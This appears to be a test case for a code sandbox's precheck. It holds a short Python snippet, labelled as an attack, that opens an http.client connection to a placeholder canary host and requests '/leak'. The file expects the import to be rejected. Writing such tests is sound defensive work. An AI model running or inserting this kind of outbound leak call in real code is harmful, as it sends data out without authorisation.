# attack: http.client connection to the canary
# expect: precheck:import-not-allowed
# unguarded: python
import http.client
conn = http.client.HTTPConnection("CANARY_HOST", CANARY_PORT, timeout=2)
conn.request("GET", "/leak")
